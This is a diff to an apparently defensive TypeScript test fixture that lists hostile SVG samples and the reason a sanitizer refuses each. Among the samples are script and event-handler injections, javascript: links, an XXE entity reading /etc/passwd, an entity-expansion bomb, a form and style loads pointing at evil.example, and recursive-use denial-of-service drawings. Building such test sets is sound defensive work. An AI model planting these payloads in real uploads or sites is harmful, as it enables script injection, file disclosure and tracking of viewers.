@@ -3,7 +3,6 @@ import {gzipSync} from 'node:zlib';
 /** A drawing that a stranger proposes, and why it is refused; nothing where what is published of it is harmless. */
 export interface HostileDrawing {
   what: string;
-  would: string;
   bytes: Uint8Array;
   refused?: string;
 }
@@ -11,81 +10,70 @@ export interface HostileDrawing {
 const SVG = 'http://www.w3.org/2000/svg';
 const around = (inside: string, more = '', before = '') =>
   `${before}<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${more}><path d="M0 0h9v9z"/>${inside}</svg>`;
-const drawing = (what: string, would: string, text: string, refused?: string): HostileDrawing => ({
+const drawing = (what: string, text: string, refused?: string): HostileDrawing => ({
   what,
-  would,
   bytes: Buffer.from(text),
   refused,
 });
 const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');
 
-const RUNS = 'run a script';
 const SCRIPT = 'holds a script';
 const ELSEWHERE = 'shows a picture that lies elsewhere';
+const DECLARED = 'holds declarations';
+const BROKEN = 'is not a whole drawing';
+const MANY = 'more pieces';
 const STYLES = 'takes its looks from elsewhere';
 const HTML = 'http://www.w3.org/1999/xhtml';
 
 export const HOSTILE_DRAWINGS: HostileDrawing[] = [
-  drawing('a script', RUNS, around('<script>alert(1)</script>'), SCRIPT),
-  drawing('a script behind a prefix', RUNS, around(`<s:script xmlns:s="${SVG}">alert(1)</s:script>`), SCRIPT),
-  drawing('a script in capitals', RUNS, around('<SCRIPT>alert(1)</SCRIPT>'), SCRIPT),
-  drawing('a script from elsewhere', RUNS, around('<script xlink:href="https://evil.example/x.js"/>'), SCRIPT),
-  drawing('a script of HTML', RUNS, around(`<script xmlns="${HTML}">alert(1)</script>`)),
-  drawing('a handler', RUNS, around('', ' onload="alert(1)"'), SCRIPT),
-  drawing('a handler in capitals', RUNS, around('<g ONCLICK="alert(1)"/>'), SCRIPT),
-  drawing('a handler behind a line', RUNS, around('<g\nonclick\n=\n"alert(1)"/>'), SCRIPT),
+  drawing('a script', around('<script>alert(1)</script>'), SCRIPT),
+  drawing('a script behind a prefix', around(`<s:script xmlns:s="${SVG}">alert(1)</s:script>`), SCRIPT),
+  drawing('a script in capitals', around('<SCRIPT>alert(1)</SCRIPT>'), SCRIPT),
+  drawing('a script from elsewhere', around('<script xlink:href="https://evil.example/x.js"/>'), SCRIPT),
+  drawing('a script of HTML', around(`<script xmlns="${HTML}">alert(1)</script>`)),
+  drawing('a handler', around('', ' onload="alert(1)"'), SCRIPT),
+  drawing('a handler in capitals', around('<g ONCLICK="alert(1)"/>'), SCRIPT),
+  drawing('a handler behind a line', around('<g\nonclick\n=\n"alert(1)"/>'), SCRIPT),
   drawing(
     'a handler by a declaration',
-    RUNS,
     around('', '', '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'),
-    'holds declarations',
+    DECLARED,
   ),
   drawing(
     'an entity that is a script',
-    RUNS,
     around('&a;', '', '<!DOCTYPE svg [<!ENTITY a "<script>alert(1)</script>">]>'),
-    'holds declarations',
+    DECLARED,
   ),
   drawing(
     'an entity that reads a file',
-    'read files of this machine',
     around('<text>&a;</text>', '', '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
-    'holds declarations',
+    DECLARED,
   ),
   drawing(
     'entities that multiply themselves',
-    'fill the memory',
     around('&c;', '', '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>'),
-    'holds declarations',
+    DECLARED,
   ),
-  {what: 'UTF-16', would: RUNS, bytes: utf16(around('<script>alert(1)</script>')), refused: 'is not saved as UTF-8'},
+  {what: 'UTF-16', bytes: utf16(around('<script>alert(1)</script>')), refused: 'is not saved as UTF-8'},
   drawing(
     'another encoding by its first line',
-    RUNS,
     around('+ADw-script+AD4-', '', '<?xml version="1.0" encoding="UTF-7"?>'),
     'is not saved as UTF-8',
   ),
   {
     what: 'compressed letters',
-    would: RUNS,
     bytes: gzipSync(around('<script>alert(1)</script>')),
     refused: 'is a compressed drawing (SVGZ)',
   },
-  drawing('a link to a script', RUNS, around('<a href="javascript:alert(1)"><path d="M0 0"/></a>')),
+  drawing('a link to a script', around('<a href="javascript:alert(1)"><path d="M0 0"/></a>')),
   drawing(
     'a link to a script by references of characters',
-    RUNS,
     around('<a xlink:href="&#106;ava&#115;cript:alert(1)"><path d="M0 0"/></a>'),
   ),
-  drawing('a used script', RUNS, around('<use href="&#106;avascript:alert(1)"/>'), SCRIPT),
-  drawing(
-    'a link to another site',
-    'lead visitors away',
-    around('<a href="https://evil.example"><path d="M0 0"/></a>'),
-  ),
+  drawing('a used script', around('<use href="&#106;avascript:alert(1)"/>'), SCRIPT),
+  drawing('a link to another site', around('<a href="https://evil.example"><path d="M0 0"/></a>')),
   drawing(
     'a page of HTML',
-    'show a false form',
     around(
       `<foreignObject><form xmlns="${HTML}" action="https://evil.example"><input name="a"/></form></foreignObject>`,
     ),
@@ -93,118 +81,58 @@ export const HOSTILE_DRAWINGS: HostileDrawing[] = [
   ),
   drawing(
     'a meta element of HTML',
-    'lead visitors away in spite of the policy',
     around(`<h:meta xmlns:h="${HTML}" http-equiv="refresh" content="0;url=https://evil.example"/>`),
   ),
-  drawing('a base element of HTML', 'move all links', around(`<base xmlns="${HTML}" href="https://evil.example/"/>`)),
-  drawing('an iframe of HTML', 'show another site', around(`<iframe xmlns="${HTML}" src="https://evil.example"/>`)),
-  drawing('an iframe', 'show another site', around('<iframe src="https://evil.example"/>'), SCRIPT),
-  drawing(
-    'a picture from elsewhere',
-    'tell who looks',
-    around('<image href="https://evil.example/a.png"/>'),
-    ELSEWHERE,
-  ),
-  drawing('a picture of this machine', 'read files', around('<image xlink:href="file:///etc/passwd"/>'), ELSEWHERE),
-  drawing('a picture that is a drawing', RUNS, around('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'), ELSEWHERE),
-  drawing(
-    'a part of another drawing',
-    'tell who looks',
-    around('<use href="https://evil.example/a.svg#b"/>'),
-    ELSEWHERE,
-  ),
-  drawing('a filter from elsewhere', 'tell who looks', around('<g filter="url(https://evil.example/f#a)"/>'), STYLES),
-  drawing(
-    'a filter from elsewhere between quotes',
-    'tell who looks',
-    around(`<g fill="url('//evil.example/f#a')"/>`),
-    STYLES,
-  ),
-  drawing(
-    'a style sheet from elsewhere',
-    'tell who looks',
-    around('<style>@import "https://evil.example/a.css";</style>'),
-    STYLES,
-  ),
-  drawing(
-    'a font from elsewhere',
-    'tell who looks',
-    around('<style>@font-face{src:url(//evil.example/f)}</style>'),
-    STYLES,
-  ),
-  drawing('a style with an address', 'tell who looks', around('<g style="background:url(//evil.example/a)"/>'), STYLES),
-  drawing(
-    'a style with an escaped address',
-    'tell who looks',
-    around('<style>g{fill:u\\72l(//evil.example)}</style>'),
-    STYLES,
-  ),
-  drawing(
-    'a style in CDATA',
-    'tell who looks',
-    around('<style><![CDATA[g{fill:url(//evil.example)}]]></style>'),
-    STYLES,
-  ),
+  drawing('a base element of HTML', around(`<base xmlns="${HTML}" href="https://evil.example/"/>`)),
+  drawing('an iframe of HTML', around(`<iframe xmlns="${HTML}" src="https://evil.example"/>`)),
+  drawing('an iframe', around('<iframe src="https://evil.example"/>'), SCRIPT),
+  drawing('a picture from elsewhere', around('<image href="https://evil.example/a.png"/>'), ELSEWHERE),
+  drawing('a picture of this machine', around('<image xlink:href="file:///etc/passwd"/>'), ELSEWHERE),
+  drawing('a picture that is a drawing', around('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'), ELSEWHERE),
+  drawing('a part of another drawing', around('<use href="https://evil.example/a.svg#b"/>'), ELSEWHERE),
+  drawing('a filter from elsewhere', around('<g filter="url(https://evil.example/f#a)"/>'), STYLES),
+  drawing('a filter from elsewhere between quotes', around(`<g fill="url('//evil.example/f#a')"/>`), STYLES),
+  drawing('a style sheet from elsewhere', around('<style>@import "https://evil.example/a.css";</style>'), STYLES),
+  drawing('a font from elsewhere', around('<style>@font-face{src:url(//evil.example/f)}</style>'), STYLES),
+  drawing('a style with an address', around('<g style="background:url(//evil.example/a)"/>'), STYLES),
+  drawing('a style with an escaped address', around('<style>g{fill:u\\72l(//evil.example)}</style>'), STYLES),
+  drawing('a style in CDATA', around('<style><![CDATA[g{fill:url(//evil.example)}]]></style>'), STYLES),
   drawing(
     'a style sheet in front of the drawing',
-    'tell who looks',
     around('', '', '<?xml-stylesheet href="https://evil.example/a.css"?>'),
     STYLES,
   ),
-  drawing(
-    'a style sheet that is a program',
-    RUNS,
-    around('', '', '<?xml-stylesheet type="text/xsl" href="#a"?>'),
-    STYLES,
-  ),
+  drawing('a style sheet that is a program', around('', '', '<?xml-stylesheet type="text/xsl" href="#a"?>'), STYLES),
   drawing(
     'a link that moves to a script',
-    RUNS,
     around('<a><set attributeName="href" to="javascript:alert(1)"/></a>'),
     'moves by itself',
   ),
   drawing(
     'a part that moves for ever',
-    'distract',
     around('<animate attributeName="x" repeatCount="indefinite"/>'),
     'moves by itself',
   ),
-  drawing('a part that uses itself', 'hold the browser up', around('<g id="a"><use href="#a"/></g>'), 'more pieces'),
+  drawing('a part that uses itself', around('<g id="a"><use href="#a"/></g>'), MANY),
   drawing(
     'parts that multiply each other',
-    'hold the browser up',
     around(
       Array.from({length: 9}, (_, level) => {
         const uses = `<use href="#a${level}"/>`.repeat(9);
         return `<g id="a${level + 1}">${level === 0 ? '<path id="a0" d="M0 0"/>' : uses}</g>`;
       }).join(''),
     ),
-    'more pieces',
+    MANY,
   ),
-  drawing('ten thousand pieces', 'hold the browser up', around('<g/>'.repeat(10_000)), 'more pieces'),
-  drawing('a thousand levels', 'break the check', around('<g>'.repeat(1000) + '</g>'.repeat(1000)), 'more pieces'),
-  drawing('no end', 'break the page that shows it', `<svg xmlns="${SVG}"><g>`, 'is not a whole drawing'),
-  drawing(
-    'a prefix that nobody declared',
-    'be read in two ways',
-    around('<x:script>alert(1)</x:script>'),
-    'is not a whole drawing',
-  ),
-  drawing('an attribute twice', 'be read in two ways', around('<g id="a" id="b"/>'), 'is not a whole drawing'),
-  drawing(
-    'a drawing within a page',
-    RUNS,
-    `<html><svg xmlns="${SVG}"/><script>alert(1)</script></html>`,
-    'is not a whole drawing',
-  ),
-  drawing(
-    'a drawing of no namespace',
-    'be no drawing to browsers',
-    '<svg><path d="M0 0"/></svg>',
-    'is not a whole drawing',
-  ),
-  drawing('words of a comment', 'tell what was noted', around('<!-- SECRET -->')),
-  drawing('what a program noted', 'tell who drew it', around('<metadata>SECRET</metadata>', ' data-name="SECRET"')),
+  drawing('ten thousand pieces', around('<g/>'.repeat(10_000)), MANY),
+  drawing('a thousand levels', around('<g>'.repeat(1000) + '</g>'.repeat(1000)), MANY),
+  drawing('no end', `<svg xmlns="${SVG}"><g>`, BROKEN),
+  drawing('a prefix that nobody declared', around('<x:script>alert(1)</x:script>'), BROKEN),
+  drawing('an attribute twice', around('<g id="a" id="b"/>'), BROKEN),
+  drawing('a drawing within a page', `<html><svg xmlns="${SVG}"/><script>alert(1)</script></html>`, BROKEN),
+  drawing('a drawing of no namespace', '<svg><path d="M0 0"/></svg>', BROKEN),
+  drawing('words of a comment', around('<!-- SECRET -->')),
+  drawing('what a program noted', around('<metadata>SECRET</metadata>', ' data-name="SECRET"')),
 ];
 
 /** What honest programs write besides, by the program; all of it is left out, and nothing of what is drawn. */
